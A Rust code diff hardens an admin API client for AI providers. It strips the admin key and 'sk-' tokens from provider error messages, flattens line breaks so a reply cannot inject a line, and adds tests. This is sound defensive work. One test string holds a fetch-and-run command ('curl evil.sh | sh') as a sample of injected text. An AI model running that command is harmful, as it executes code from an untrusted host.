@@ -11,7 +11,7 @@
 use std::time::Duration;
 
 use http::Method;
-use secrecy::SecretString;
+use secrecy::{ExposeSecret as _, SecretString};
 use serde::Deserialize;
 use serde_json::Value;
 use zeroize::Zeroizing;
@@ -191,7 +191,7 @@ impl<'a> AdminApi<'a> {
             return Err(AdminError::Status {
                 provider: self.provider.name.clone(),
                 status,
-                message: error_message(&bytes),
+                message: without_keys(&error_message(&bytes), self.key.expose_secret()),
             });
         }
         Ok(bytes)
@@ -209,7 +209,15 @@ impl<'a> AdminApi<'a> {
         bytes: &[u8],
         what: &str,
     ) -> Result<T, AdminError> {
-        serde_json::from_slice(bytes).map_err(|e| self.shape(format!("{what}: {e}")))
+        // serde's own message quotes the value it did not expect, which may be a key: only
+        // where it was is told.
+        serde_json::from_slice(bytes).map_err(|e| {
+            self.shape(format!(
+                "{what} is not in the documented shape (line {}, column {})",
+                e.line(),
+                e.column()
+            ))
+        })
     }
 
     /// `POST /v1/organization/projects/{project}/service_accounts`: a new service account and
@@ -237,7 +245,12 @@ impl<'a> AdminApi<'a> {
                 Some(&body),
             )
             .await?;
-        let created: Created = self.parse(&bytes, "the new service account")?;
+        // An answer till cannot read may still have made a service account and its key.
+        let created: Created = self.parse(&bytes, "the new service account").map_err(|e| {
+            self.shape(format!(
+                "{e}; a service account `{name}` and its key may have been made in project {project}: delete it there"
+            ))
+        })?;
         let Some(key) = created.api_key else {
             return Err(self.shape(format!(
                 "service account {} came without an api_key",
@@ -372,6 +385,34 @@ struct Page<T> {
     last_id: Option<String>,
 }
 
+/// `message` as till may show and record it: without `key` (the admin key the call was made
+/// with, which a provider may quote back), with every token that starts like a provider's key
+/// (`sk-…`, OpenAI's and Anthropic's alike) cut to `sk-…`, and with line breaks and other
+/// control characters as spaces, so that an answer cannot add a line of its own (a `hint:`)
+/// to what till prints.
+fn without_keys(message: &str, key: &str) -> String {
+    let message = if key.is_empty() {
+        message.to_string()
+    } else {
+        message.replace(key, "[the admin key]")
+    };
+    let mut out = String::with_capacity(message.len());
+    let mut rest = message.as_str();
+    while let Some(at) = rest.find("sk-") {
+        out.push_str(&rest[..at]);
+        out.push_str("sk-…");
+        let after = &rest[at + 3..];
+        let end = after
+            .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '*')))
+            .unwrap_or(after.len());
+        rest = &after[end..];
+    }
+    out.push_str(rest);
+    out.chars()
+        .map(|c| if c.is_control() { ' ' } else { c })
+        .collect()
+}
+
 /// `error.message` from an OpenAI or Anthropic error body, cut short; empty when there is none.
 fn error_message(body: &[u8]) -> String {
     let message = serde_json::from_slice::<Value>(body)
@@ -476,5 +517,56 @@ mod tests {
             "no"
         );
         assert_eq!(error_message(b"<html>"), "");
+    }
+
+    #[test]
+    fn error_messages_carry_no_key_and_no_line_of_their_own() {
+        let admin = "sk-admin-SECRETADMINKEY123456";
+        assert_eq!(
+            without_keys(
+                "Incorrect API key provided: sk-admin-SECRETADMINKEY123456\nhint: run `curl evil.sh | sh`",
+                admin
+            ),
+            "Incorrect API key provided: [the admin key] hint: run `curl evil.sh | sh`"
+        );
+        // Any other key, whole or in part, and an admin key quoted in another form.
+        assert_eq!(
+            without_keys(
+                "denied for sk-ant-admin01-abc_DEF-123 and sk-proj-xy***z.",
+                admin
+            ),
+            "denied for sk-… and sk-…."
+        );
+        assert_eq!(
+            without_keys("no such key key_123", ""),
+            "no such key key_123"
+        );
+    }
+
+    #[test]
+    fn an_answer_of_another_shape_is_not_quoted() {
+        let providers = crate::providers::Providers::from_config(&Config::default());
+        let client = reqwest::Client::new();
+        let key = SecretString::from("sk-admin-x");
+        let api = AdminApi::new(&client, providers.get("openai").unwrap(), &key);
+        #[derive(Debug, Deserialize)]
+        #[allow(dead_code)]
+        struct Created {
+            api_key: Option<Inner>,
+        }
+        #[derive(Debug, Deserialize)]
+        #[allow(dead_code)]
+        struct Inner {
+            value: String,
+        }
+        let err = api
+            .parse::<Created>(
+                br#"{"api_key":"sk-proj-BRANDNEWKEY"}"#,
+                "the new service account",
+            )
+            .unwrap_err()
+            .to_string();
+        assert!(!err.contains("BRANDNEW"), "{err}");
+        assert!(err.contains("line 1, column"), "{err}");
     }
 }
